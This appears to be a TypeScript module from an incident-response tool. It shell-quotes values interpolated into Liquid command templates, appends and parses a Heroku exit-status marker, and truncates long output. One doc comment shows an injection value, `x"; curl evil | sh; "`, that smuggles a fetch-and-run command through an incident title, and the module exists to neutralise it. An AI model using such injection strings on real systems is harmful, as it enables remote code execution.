import { Liquid } from 'liquidjs';

/** Wraps text in single quotes for POSIX sh: nothing inside is interpreted. */
export function shellQuote(value: string): string {
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

/**
 * Liquid for commands: every `{{ value }}` is shell-quoted, so an incident title like
 * `x"; curl evil | sh; "` reaches the dyno as one inert argument. The template's literal
 * text is the responder's command and stays as written.
 */
export function createCommandLiquid(): Liquid {
  return new Liquid({
    strictFilters: true,
    strictVariables: false,
    ownPropertyOnly: true,
    outputEscape: (value: unknown) => shellQuote(value === null || value === undefined ? '' : String(value)),
  });
}

export class CommandTemplateError extends Error {
  constructor(message: string) {
    super(message);
    this.name = 'CommandTemplateError';
  }
}

/** Renders a command template; a template that does not parse is the caller's mistake. */
export function renderCommand(liquid: Liquid, template: string, scope: object): string {
  try {
    return String(liquid.parseAndRenderSync(template, scope)).trim();
  } catch (error) {
    throw new CommandTemplateError(`command is not a valid template: ${(error as Error).message.replace(/, file:.*$/, '')}`);
  }
}

/** The marker the Heroku CLI appends to learn the exit status (Rendezvous does not carry it). */
export const EXIT_MARKER = '\uFFFF heroku-command-exit-status:';

/**
 * The command with the exit-status marker appended. It runs in a subshell, so an `exit` in it
 * still reaches the marker, on lines of its own, so a trailing `# comment` cannot swallow
 * the closing parenthesis.
 */
export function withExitMarker(command: string): string {
  return `(\n${command}\n); echo "${EXIT_MARKER} $?"`;
}

/** Splits the marker line off the output: the exit status, or null when the command did not finish. */
export function readExitStatus(output: string): { output: string; exitStatus: number | null } {
  const pattern = new RegExp(`${EXIT_MARKER} (\\d+)\\s*$`);
  const match = pattern.exec(output);
  if (!match) return { output, exitStatus: null };
  return { output: output.slice(0, match.index), exitStatus: Number(match[1]) };
}

/** Most output kept per run; when cut, the end is kept (where errors usually are) and it says so. */
export const MAX_KEPT_OUTPUT = 256 * 1024;

export function capOutput(output: string): { output: string; truncated: boolean } {
  if (output.length <= MAX_KEPT_OUTPUT) return { output, truncated: false };
  const dropped = output.length - MAX_KEPT_OUTPUT;
  return { output: `[output truncated: the first ${dropped} characters are not kept]\n${output.slice(dropped)}`, truncated: true };
}
